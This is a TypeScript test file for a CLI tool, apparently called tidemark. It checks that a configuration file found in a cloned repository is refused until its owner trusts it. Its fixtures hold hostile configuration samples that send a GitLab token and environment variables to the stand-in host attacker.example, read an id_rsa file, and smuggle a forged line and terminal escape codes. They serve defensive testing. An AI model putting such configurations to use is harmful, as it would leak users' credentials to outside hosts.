/** What a repository that somebody clones may do by its tidemark.yaml: nothing beyond itself, before its owner has said so. */
import { execFileSync } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import { createTidemark } from '../../src/tidemark.ts';
import { buildExecutable, type Executable } from '../support/executable.ts';
import { environment, makeRepository, type TestRepository } from '../support/repository.ts';

/** Many processes, one after the other, on a machine that others use too. */
vi.setConfig({ testTimeout: 120_000 });

const SECRET = 'value-that-nobody-may-see';
let tidemark: Executable;
let repository: TestRepository;
let elsewhere: string;
let env: Record<string, string>;
/** Whoever answers there has been sent something. */
let listener: Server;
let sent: string[];

const file = () => join(repository.directory, 'tidemark.yaml');
/** As somebody who has named no configuration. */
const tide = (...args: string[]) => tidemark.run(repository.directory, args, env);
/** What a message says of the file, below its first line. */
const listed = (stderr: string) => stderr.split('\n').flatMap((line) => (line.startsWith('    ') ? [line.trim()] : []));

beforeAll(async () => {
  tidemark = buildExecutable();
  repository = await makeRepository();
  await repository.commit({ files: [['a.md', '# Tides\n\nAbout quokkas.\n']] });
  await mkdir(join(repository.directory, 'docs'));
  sent = [];
  listener = createServer((request, response) => {
    sent.push(`${request.method} ${request.url}`);
    response.end('{}');
  });
  await new Promise<void>((listening) => listener.listen(0, '127.0.0.1', listening));
}, 120_000);

beforeEach(async () => {
  elsewhere = await mkdtemp(join(tmpdir(), 'tidemark-elsewhere-'));
  env = { TIDEMARK_CONFIG: '', XDG_STATE_HOME: elsewhere, GITLAB_TOKEN: SECRET };
  return async () => {
    await rm(file(), { force: true });
    await rm(elsewhere, { recursive: true, force: true });
  };
});

afterAll(async () => {
  await tidemark?.remove();
  await repository?.remove();
  listener?.close();
});

const hostile = () => `pipelines:
  default:
    sources:
      - git: { path: ../elsewhere }
      - gitlab: { url: https://me:${SECRET}@gitlab.attacker.example, tokenFile: ${elsewhere}/id_rsa, groups: [x] }
    embedder: { kind: openai, url: 'http://attacker.example/\${HOME}', apiKey: '\${GITLAB_TOKEN}', model: m, dimensions: 8 }
`;

describe('a configuration that was merely found', () => {
  it('is refused by whatever would use it, with all that it reaches for and no value of it', async () => {
    await writeFile(file(), hostile());
    for (const words of [['search', 'quokkas'], ['serve'], ['backfill'], ['mcp'], ['status'], ['config', 'check']]) {
      const { code, stdout, stderr } = await tide(...words);
      expect({ words, code, stdout }).toEqual({ words, code: 78, stdout: '' });
      expect(listed(stderr)).toEqual([
        'pipelines.default.sources[0].git.path: the file or directory "../elsewhere"',
        'pipelines.default.sources[1].gitlab.url: the host "gitlab.attacker.example"',
        `pipelines.default.sources[1].gitlab.tokenFile: the file or directory "${elsewhere}/id_rsa"`,
        'pipelines.default.embedder.url: the variable HOME',
        'pipelines.default.embedder.url: the host "attacker.example"',
        'pipelines.default.embedder.apiKey: the variable GITLAB_TOKEN',
      ]);
      expect(stderr).toMatch(/tidemark trust.*--config FILE.*TIDEMARK_CONFIG/);
      expect(stderr).not.toContain(SECRET);
    }
    const { stdout } = await tide('doctor', '--json');
    expect(JSON.parse(stdout)).toContainEqual(
      expect.objectContaining({ level: 'error', about: 'configuration', remedy: 'tidemark trust, if it is yours.' }),
    );
  });

  it('is refused by the library, which may be told that it is meant', async () => {
    await writeFile(file(), 'http: { hosts: [attacker.example] }');
    const around = { directory: repository.directory, env: { ...environment(), ...env } };
    await expect(createTidemark(around)).rejects.toThrow('http.hosts[0]: the host "attacker.example"');
    await (await createTidemark({ ...around, config: 'tidemark.yaml' })).close();
  });

  it('is found at the top of the repository too, and refused there', async () => {
    await writeFile(file(), 'http: { hosts: [attacker.example] }');
    const { code, stderr } = await tidemark.run(join(repository.directory, 'docs'), ['status'], env);
    expect([code, listed(stderr)]).toEqual([78, ['http.hosts[0]: the host "attacker.example"']]);
  });

  it('sends nothing anywhere, not even to this machine, while it reaches for a variable', async () => {
    const address = listener.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    await writeFile(
      file(),
      `pipelines: { default: { embedder: { kind: openai, url: 'http://127.0.0.1:${port}', apiKey: '\${GITLAB_TOKEN}', model: m, dimensions: 8 } } }`,
    );
    expect((await tide('search', 'quokkas', '--fresh')).code).toBe(78);
    expect((await tide('backfill')).code).toBe(78);
    expect(sent).toEqual([]);
  });

  it('is obeyed where it stays at home', async () => {
    await writeFile(
      file(),
      `pipelines: { default: { include: ['*.md'], chunk: { tokens: 64 }, sources: [{ git: { path: '.' } }] } }
http: { port: 0 }
data: .tidemark
`,
    );
    expect((await tide('backfill', '--json')).code).toBe(0);
    const { stdout } = await tide('config', 'show', '--json');
    expect(JSON.parse(stdout).pipelines.default).toMatchObject({ include: ['*.md'], chunk: { tokens: 64 } });
  });

  it('is shown as it is written, with no variable filled in and its secrets covered', async () => {
    await writeFile(file(), hostile());
    const { code, stdout, stderr } = await tide('config', 'show');
    expect([code, listed(stderr)[0]]).toEqual([78, expect.stringContaining('../elsewhere')]);
    expect(stdout).not.toContain(SECRET);
    expect(parse(stdout).pipelines.default.embedder).toMatchObject({
      url: 'http://attacker.example/${HOME}',
      apiKey: '***',
    });
  });

  it('says it in lines of its own, whatever its names are', async () => {
    await writeFile(file(), `http: { hosts: ["evil\\n  forged: line\\e[2J"] }\n"a\\nb": "\${X}"\n`);
    const { stderr } = await tide('status');
    expect(listed(stderr)).toEqual(['http.hosts[0]: the host "evil\ufffd  forged"', 'a\ufffdb: the variable X']);
    expect(stderr).not.toContain('\u001b');
  });
});

describe('the word of a person', () => {
  it('is tidemark trust, holds for that content alone, and is taken back', async () => {
    await writeFile(file(), 'webhooks: { secrets: ["${GITLAB_TOKEN}"] }\n');
    expect((await tide('trust', '--show')).code).toBe(1);
    expect((await tide('config', 'check')).code).toBe(78);
    const { code, stdout } = await tide('trust');
    expect([code, stdout]).toEqual([
      0,
      `${file()} is trusted as it stands. It reaches for:\n  webhooks.secrets[0]: the variable GITLAB_TOKEN\n`,
    ]);
    expect((await tide('trust', '--show')).code).toBe(0);
    expect((await tide('config', 'check')).code).toBe(0);
    await writeFile(file(), 'webhooks: { secrets: ["${GITLAB_TOKEN}", "${HOME}"] }\n');
    expect((await tide('config', 'check')).code).toBe(78);
    await tide('trust', 'tidemark.yaml');
    expect((await tide('config', 'check')).code).toBe(0);
    expect((await tide('trust', '--revoke')).stdout).toBe(`${file()} is not trusted any more\n`);
    expect((await tide('config', 'check')).code).toBe(78);
  });

  it('is kept where nobody else can read or write it', async () => {
    await writeFile(file(), 'http: { hosts: [example.com] }');
    await tide('trust');
    const directory = join(elsewhere, 'tidemark', 'trusted');
    const [word = ''] = await readdir(directory);
    expect((await stat(directory)).mode & 0o777).toBe(0o700);
    expect((await stat(join(directory, word))).mode & 0o777).toBe(0o600);
    // Of another path with the same content nothing was said.
    const other = join(repository.directory, 'docs', 'tidemark.yaml');
    await symlink(file(), other);
    expect((await tidemark.run(join(repository.directory, 'docs'), ['status'], env)).code).toBe(78);
    await rm(other);
  });

  it('is --config, before the command and behind it, and TIDEMARK_CONFIG', async () => {
    await writeFile(file(), 'http: { hosts: [example.com] }\npipelines: { default: { chunk: { tokens: 32 } } }\n');
    for (const words of [
      ['--config', 'tidemark.yaml', 'config', 'check'],
      ['--config=tidemark.yaml', 'config', 'check'],
      ['config', 'check', '--config', 'tidemark.yaml'],
    ])
      expect(await tide(...words)).toMatchObject({ code: 0, stdout: expect.stringContaining('32 tokens') });
    const named = { ...env, TIDEMARK_CONFIG: 'tidemark.yaml' };
    expect((await tidemark.run(repository.directory, ['config', 'check'], named)).code).toBe(0);
    // The word on the command line goes before the one in the environment.
    const other = { ...env, TIDEMARK_CONFIG: 'none.yaml' };
    expect((await tidemark.run(repository.directory, ['config', 'check', '--config', file()], other)).code).toBe(0);
    expect(await tide('--config', 'none.yaml', 'config', 'check')).toMatchObject({
      code: 78,
      stderr: expect.stringContaining('--config names "none.yaml", and there is no such file'),
    });
    expect((await tide('--config')).code).toBe(2);
    expect((await tide('--config', 'a', 'status', '--config', 'b')).stderr).toContain('given twice');
    expect((await tide('--config', 'tidemark.yaml', '--help')).code).toBe(0);
  });

  it('is that init has written it', async () => {
    const args = [
      '--yes',
      '--no-check',
      '--source',
      'gitlab',
      '--gitlab-url',
      'https://gitlab.example',
      '--groups',
      'a',
    ];
    expect((await tide('init', ...args)).code).toBe(0);
    const set = { ...env, GITLAB_WEBHOOK_SECRET: 'x' };
    expect((await tidemark.run(repository.directory, ['config', 'check'], set)).code).toBe(0);
  });

  it('says where it cannot be kept', async () => {
    await writeFile(file(), 'http: { hosts: [example.com] }');
    const nowhere = { ...env, XDG_STATE_HOME: 'not/absolute', HOME: '' };
    expect(await tidemark.run(repository.directory, ['trust'], nowhere)).toMatchObject({
      code: 78,
      stderr: expect.stringContaining('--config FILE'),
    });
    expect((await tidemark.run(repository.directory, ['status'], nowhere)).code).toBe(78);
  });
});

describe('a configuration that is no file to read', () => {
  it('is refused at once, by whatever way it was named', async () => {
    execFileSync('mkfifo', [file()]);
    for (const words of [['status'], ['trust'], ['config', 'check', '--config', 'tidemark.yaml']])
      expect(await tide(...words)).toMatchObject({ code: 78, stderr: expect.stringContaining('no plain file') });
    await rm(file());
    expect(await tide('status', '--config', '/dev/zero')).toMatchObject({ code: 78 });
    expect(await tide('status', '--config', repository.directory)).toMatchObject({ code: 78 });
    await writeFile(file(), `# ${'x'.repeat(300 * 1024)}`);
    expect(await tide('status')).toMatchObject({ code: 78, stderr: expect.stringContaining('256 KiB') });
    await writeFile(file(), '');
    await chmod(file(), 0o000);
    if (process.getuid?.() !== 0) expect((await tide('status')).code).toBe(78);
  });

  it('is refused as a secret file', async () => {
    const pipe = join(elsewhere, 'pipe');
    execFileSync('mkfifo', [pipe]);
    const set = { ...env, TIDEMARK_QDRANT_API_KEY_FILE: pipe };
    expect(await tidemark.run(repository.directory, ['status'], set)).toMatchObject({
      code: 78,
      stderr: expect.stringContaining('no plain file'),
    });
  });
});
